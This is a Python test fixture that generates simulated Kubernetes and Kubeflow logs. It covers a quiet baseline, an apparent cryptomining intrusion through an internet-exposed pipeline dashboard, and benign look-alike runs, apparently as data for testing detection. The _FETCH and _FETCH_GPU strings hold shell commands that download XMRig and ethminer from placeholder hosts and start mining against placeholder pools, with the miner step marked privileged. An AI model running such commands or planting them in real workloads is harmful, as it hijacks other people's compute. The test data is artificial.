"""The baseline, the campaign and its benign twins."""

from __future__ import annotations

from streamer.authoring.cases_time import iso, moment_of
from tests.campaign.background import (
    chatter,
    controller_pod,
    kube_proxy,
    machinery,
    people,
    release,
)
from tests.campaign.pipelines import RUNS, SCHEDULED, Run, Step, frontend, play_run, watched
from tests.campaign.recorder import HOUR, MINUTE, SECOND, Recorder, stamp

VISITOR = "203.0.113.7"
COLLEAGUE = "198.51.100.23"
SCANNERS = ("203.0.113.41", "203.0.113.96")
MINING = "sequential-pipeline-x7k2p"
USERS = ("alice@corp.example", "bob@corp.example")

_SDK = "google/cloud-sdk:279.0.0"
_BASH = "library/bash:4.4.23"
_FETCH = (
    "lscpu; nvidia-smi; apt-get -qq install -y wget; "
    "wget -q https://downloads.example/xmrig/xmrig-6.12.2-linux-static-x64.tar.gz -O /tmp/x.tgz && "
    "tar xzf /tmp/x.tgz -C /tmp && "
    "/tmp/xmrig-6.12.2/xmrig -o pool.example:3333 -u 48edfHu7V9Z84Yzz --donate-level 1"
)
_FETCH_GPU = (
    "wget -q https://downloads.example/ethminer/ethminer-0.19.0-cuda-10.0-linux.tar.gz -O /tmp/e.tgz && "
    "tar xzf /tmp/e.tgz -C /tmp && "
    "/tmp/bin/ethminer -U -P stratum+tcp://0xd1b2c3@eth-pool.example:4444"
)


def _sample_steps() -> list[Step]:
    """The stock sample ``sequential``: copy a text from a bucket, then print it."""
    return [
        Step(
            "gcs-download",
            _SDK,
            ("sh", "-c", "gsutil cat $0 | tee $1", "gs://ml-pipeline/sample.txt", "/tmp/results.txt"),
            2 * SECOND,
            ((9 * SECOND, "With which he yoketh your rebellious necks"),),
        ),
        Step(
            "echo",
            _BASH,
            ("sh", "-c", 'echo "$0"'),
            21 * SECOND,
            ((4 * SECOND, "With which he yoketh your rebellious necks"),),
        ),
    ]


def _cluster_pods(world: Recorder, at: int, day: int) -> None:
    """What a morning starts anew: the pods of the cluster itself, its monitoring and Kubeflow."""
    for place, node in enumerate("abc"):
        kube_proxy(world, at + place * SECOND, f"{node}{day}x7k")
    controller_pod(
        world,
        at + 5 * SECOND,
        "kube-system",
        f"coredns-5d78c9869d-h{day}v8k",
        "registry.k8s.io/coredns/coredns:v1.12.1",
    )
    controller_pod(
        world,
        at + 9 * SECOND,
        "monitoring",
        f"node-exporter-q{day}w8z",
        "quay.io/prometheus/node-exporter:v1.9.1",
        owner=("DaemonSet", "node-exporter"),
    )
    for place, image in enumerate(
        (
            "frontend:1.7.0",
            "api-server:1.7.0",
            "persistenceagent:1.7.0",
            "scheduledworkflow:1.7.0",
            "workflow-controller:v3.1.6-patch-license-compliance",
        )
    ):
        controller_pod(
            world,
            at + (20 + place) * SECOND,
            "kubeflow",
            f"ml-{image.partition(':')[0]}-6f9c8d7b5-k{day}x{place}w",
            f"gcr.io/ml-pipeline/{image}",
        )


def baseline() -> Recorder:
    """Two days of cluster prod-1 before the campaign: the images that are known there."""
    world = Recorder("prod-1 baseline")
    for day, start in enumerate(("2026-11-21T06:00:00Z", "2026-11-22T06:00:00Z")):
        at = stamp(start)
        _cluster_pods(world, at, day)
        release(world, at + 4 * HOUR, USERS[day % 2], f"2.1{day + 1}.0")
        controller_pod(
            world,
            at + 5 * HOUR,
            "shop",
            f"report-2937{day}-j4v9x",
            "registry.example/shop/report:1.3.0",
            owner=("Job", f"report-2937{day}"),
        )
        nightly = Run(f"nightly-report-{day}m4q8", "nightly-report", _sample_steps(), creator=SCHEDULED)
        play_run(world, at + 6 * HOUR, nightly)
        machinery(world, at + 7 * HOUR, at + 7 * HOUR + 6 * MINUTE)
        chatter(world, at + 7 * HOUR, at + 7 * HOUR + 2 * MINUTE)
        people(world, at + 7 * HOUR + 10 * MINUTE, USERS)
        for turn in range(3):
            world.access(
                at + 8 * HOUR + turn * MINUTE, "GET", ("/", "/pipeline/", "/robots.txt")[turn], SCANNERS[turn % 2]
            )
    return world


def campaign() -> Recorder:
    """Half an hour of cluster prod-1, whose dashboard is open to the internet, with the campaign of 2021 in it."""
    world = Recorder("prod-1 campaign")
    begin, end = stamp("2026-11-23T09:50:00Z"), stamp("2026-11-23T10:20:00Z")
    machinery(world, begin, end, every=18 * SECOND)
    chatter(world, begin, end, every=11 * SECOND)
    people(world, begin + 70 * SECOND, USERS)
    kube_proxy(world, stamp("2026-11-23T09:55:12Z"), "r4nd8")
    release(world, stamp("2026-11-23T09:58:30Z"), USERS[0], "2.15.0")
    controller_pod(
        world,
        stamp("2026-11-23T10:00:00Z"),
        "shop",
        "report-29380-w8k2z",
        "registry.example/shop/report:1.3.0",
        owner=("Job", "report-29380"),
    )
    play_run(
        world,
        stamp("2026-11-23T10:10:00Z"),
        Run("nightly-report-9x2vb", "nightly-report", _sample_steps(), creator=SCHEDULED),
    )
    _passers_by(world, begin)
    _intrusion(world)
    return world


def _passers_by(world: Recorder, begin: int) -> None:
    """A colleague who reads the dashboard, and scanners that look for what is open."""
    for turn in range(14):
        at = begin + turn * 2 * MINUTE + world.drawn(30 * SECOND)
        path = ("/", "/pipeline/", "/pipeline/apis/v1beta1/runs?page_size=10", "/api/workgroup/env-info")[turn % 4]
        world.access(at, "GET", path, COLLEAGUE)
        if path.startswith("/pipeline"):
            frontend(world, at + 2_000, f"GET {path}")
        scanner = ("/", "/.env", "/wp-login.php", "/robots.txt", "/actuator/health")[turn % 5]
        status = 200 if scanner == "/" else 404
        world.access(at + 17 * SECOND, "GET", scanner, SCANNERS[turn % 2], status=status, agent="Mozilla/5.0 zgrab/0.x")


def _intrusion(world: Recorder) -> None:
    visit = stamp("2026-11-23T10:02:11.120Z")
    world.access(visit, "GET", "/pipeline/", VISITOR)
    frontend(world, visit + 2_000, "GET /pipeline/")
    world.access(visit + 4 * SECOND, "GET", "/pipeline/apis/v1beta1/pipelines?page_size=10", VISITOR)
    frontend(world, visit + 4 * SECOND + 2_000, "GET /pipeline/apis/v1beta1/pipelines?page_size=10")
    upload = stamp("2026-11-23T10:02:27.405Z")
    world.access(upload, "POST", "/pipeline/apis/v1beta1/pipelines/upload?name=sequential-pipeline", VISITOR)
    frontend(world, upload + 2_000, "POST /pipeline/apis/v1beta1/pipelines/upload?name=sequential-pipeline")
    world.line(
        upload + 6_000,
        "kubeflow/ml-pipeline-6f9c8d7b5-k2x9w/ml-pipeline-api-server",
        "I1123 10:02:27.411000 7 pipeline_upload_server.go:80] Upload pipeline called",
        stream="stderr",
        labels={"app": "ml-pipeline"},
    )
    posted = stamp("2026-11-23T10:02:40.871Z")
    world.access(posted, "POST", RUNS, VISITOR, duration_ms=97)
    frontend(world, posted + 2_000, f"POST {RUNS}")
    miner = Step(
        "train", "tensorflow/tensorflow:latest", ("sh", "-c", _FETCH), 2_076_000, _cpu_output(), privileged=True
    )
    second = Step(
        "train-gpu", "tensorflow/tensorflow:latest-gpu", ("sh", "-c", _FETCH_GPU), 9 * SECOND, _gpu_output(), gpu=True
    )
    run_id, _ = play_run(
        world, stamp("2026-11-23T10:02:40.934Z"), Run(MINING, "Run of sequential-pipeline (a1b2c)", [miner, second])
    )
    watched(world, posted + 420_000, run_id, VISITOR, 1)
    watched(world, stamp("2026-11-23T10:04:09.300Z"), run_id, VISITOR, 8)


def _cpu_output() -> list[tuple[int, str]]:
    """What XMRig prints, colours and all, after the hardware was looked at."""
    head = "[2026-11-23 10:03:03"
    green, cyan, white, off = "\u001b[1;32m", "\u001b[1;36m", "\u001b[1;37m", "\u001b[0m"
    lines = [
        (8_900_000, "Model name:                      Intel(R) Xeon(R) CPU @ 2.20GHz"),
        (9_100_000, "sh: 1: nvidia-smi: not found"),
        (20_432_000, f" * {white}ABOUT        {cyan}XMRig/6.12.2{off} gcc/5.4.0"),
        (20_432_000, f" * {white}POOL #1      {cyan}pool.example:3333{off} algo {white}rx/0{off}"),
        (
            20_951_000,
            (
                f"{head}.9]  {cyan}net     {off} new job from {white}pool.example:3333{off} diff {white}100001{off} "
                f"algo {white}rx/0{off} height 2493011"
            ),
        ),
        (
            41_900_000,
            f"[2026-11-23 10:03:24.9]  {green}cpu     {off} accepted ({green}1{off}/0) diff {white}100001{off} (31 ms)",
        ),
        (
            80_500_000,
            (
                f"[2026-11-23 10:04:03.5]  {green}miner   {off} speed 10s/60s/15m {cyan}2113.4{off} 2098.7 n/a "
                f"{cyan}H/s{off} max 2120.0 H/s"
            ),
        ),
    ]
    return [(after, text) for after, text in lines]


def _gpu_output() -> list[tuple[int, str]]:
    return [
        (26_000_000, " m 10:03:15 ethminer ethminer 0.19.0"),
        (29_000_000, " i 10:03:18 main     Job: 5a2b3c4d… block 11450123 eth-pool.example [203.0.113.200:4444]"),
        (44_000_000, " m 10:03:33 ethminer 0:15 A1 31.20 Mh - cu0 31.20"),
    ]


def twins() -> Recorder:
    """Cluster research-1 behind oauth2-proxy and dex: the stock sample by Bob, Carol's first run on a GPU."""
    world = Recorder("research-1 twins")
    known = stamp("2026-11-21T07:00:00Z")
    for place, profile in enumerate(("kubeflow-bob", "kubeflow-carol")):
        play_run(
            world,
            known + place * MINUTE,
            Run(
                f"warm-up-{place}n5c2",
                "warm-up",
                [_python_step()],
                namespace=profile,
                service_account="default-editor",
                creator=SCHEDULED,
            ),
        )
    kube_proxy(world, known, "t8w4q")
    begin, end = stamp("2026-11-23T13:00:00Z"), stamp("2026-11-23T13:20:00Z")
    machinery(world, begin, end, every=24 * SECOND)
    chatter(world, begin, end, every=23 * SECOND)
    people(world, begin + 40 * SECOND, ("bob@research.example", "carol@research.example"))
    kube_proxy(world, stamp("2026-11-23T13:01:30Z"), "b5n2x")
    _stock_sample(world)
    _first_gpu_run(world)
    return world


def _python_step() -> Step:
    return Step("hello", "python:3.11-slim", ("python", "-c", "print('hello')"), 2 * SECOND, ((4 * SECOND, "hello"),))


def _asked(world: Recorder, at: int, user: str, client: str, method: str, path: str) -> None:
    """A request of somebody with a session: the gateway asks oauth2-proxy first."""
    world.access(at, method, path, client)
    message = (
        f"{client}:40112 - {world.uuid('id', at)} - {user} [{moment_of(at):%Y/%m/%d %H:%M:%S}] "
        f'kubeflow.research.example {method} - "{path}" HTTP/1.1 "Mozilla/5.0" 202 0 0.001'
    )
    world.line(
        at + 3_000, "oauth2-proxy/oauth2-proxy-7f6c9d8b5-z4x8w/oauth2-proxy", message, labels={"app": "oauth2-proxy"}
    )
    if path.startswith("/pipeline"):
        frontend(world, at + 5_000, f"{method} {path}")


def _reviewed(world: Recorder, at: int, user: str, namespace: str) -> None:
    attributes = {
        "namespace": namespace,
        "verb": "create",
        "group": "pipelines.kubeflow.org",
        "version": "v1beta1",
        "resource": "runs",
    }
    world.request(
        at,
        verb="create",
        resource="authorization.k8s.io/subjectaccessreviews",
        user="system:serviceaccount:kubeflow:ml-pipeline",
        body={"metadata": {}, "spec": {"user": user, "resourceAttributes": attributes}},
    )


def _stock_sample(world: Recorder) -> None:
    """Bob logs in and runs the sample whose name the campaign borrowed."""
    bob, client, at = "bob@research.example", "203.0.113.60", stamp("2026-11-23T13:03:05Z")
    world.access(at, "GET", "/", client, status=302, flags="UAEX")
    world.access(at + SECOND, "GET", "/oauth2/start?rd=%2F", client, status=302)
    world.access(at + 2 * SECOND, "GET", "/dex/auth?client_id=kubeflow-oidc-authservice", client, status=302)
    world.line(
        at + 9 * SECOND,
        "auth/dex-6b8d5c7f9-m3k7v/dex",
        f'time={iso(at + 9 * SECOND)} level=INFO msg="login successful" connector_id=ldap username=bob email={bob}',
        stream="stderr",
        labels={"app": "dex"},
    )
    world.access(at + 10 * SECOND, "GET", "/oauth2/callback?code=x&state=y", client, status=302)
    world.line(
        at + 10 * SECOND + 4_000,
        "oauth2-proxy/oauth2-proxy-7f6c9d8b5-z4x8w/oauth2-proxy",
        f"[AuthSuccess] Authenticated via OAuth2: Session{{email:{bob} user:bob}}",
        labels={"app": "oauth2-proxy"},
    )
    for turn, path in enumerate(("/", "/pipeline/", "/pipeline/apis/v1beta1/pipelines?page_size=10")):
        _asked(world, at + (12 + 6 * turn) * SECOND, bob, client, "GET", path)
    posted = at + 40 * SECOND
    _asked(world, posted, bob, client, "POST", RUNS)
    _reviewed(world, posted + 20_000, bob, "kubeflow-bob")
    run = Run(
        "sequential-pipeline-h8d4m",
        "Run of [Sample] sequential",
        _sample_steps(),
        namespace="kubeflow-bob",
        service_account="default-editor",
    )
    run_id, _ = play_run(world, posted + 60_000, run)
    for turn in range(8):
        _asked(world, posted + SECOND + turn * 5 * SECOND, bob, client, "GET", f"{RUNS}/{run_id}")


def _first_gpu_run(world: Recorder) -> None:
    """Carol's session is days old: no login today, but oauth2-proxy is asked for every request."""
    carol, client, at = "carol@research.example", "203.0.113.61", stamp("2026-11-23T13:08:00Z")
    for turn, path in enumerate(("/", "/pipeline/", "/pipeline/apis/v1beta1/experiments?page_size=10")):
        _asked(world, at + 5 * turn * SECOND, carol, client, "GET", path)
    posted = at + 33 * SECOND
    _asked(world, posted, carol, client, "POST", RUNS)
    _reviewed(world, posted + 18_000, carol, "kubeflow-carol")
    prints = [
        (11 * SECOND, "| NVIDIA-SMI 460.73.01    Driver Version: 460.73.01    CUDA Version: 11.2     |"),
        (14 * SECOND, "Num GPUs Available:  1"),
        (31 * SECOND, "Epoch 1/10 - loss: 0.3104 - accuracy: 0.9099"),
        (52 * SECOND, "Epoch 2/10 - loss: 0.1522 - accuracy: 0.9548"),
    ]
    command = ("sh", "-c", "nvidia-smi; python /data/train.py --epochs 10")
    step = Step("train", "tensorflow/tensorflow:latest-gpu", command, 2 * SECOND, prints, gpu=True)
    run = Run("mnist-gpu-c6w9k", "mnist on a GPU", [step], namespace="kubeflow-carol", service_account="default-editor")
    run_id, _ = play_run(world, posted + 58_000, run)
    for turn in range(8):
        _asked(world, posted + SECOND + turn * 5 * SECOND, carol, client, "GET", f"{RUNS}/{run_id}")
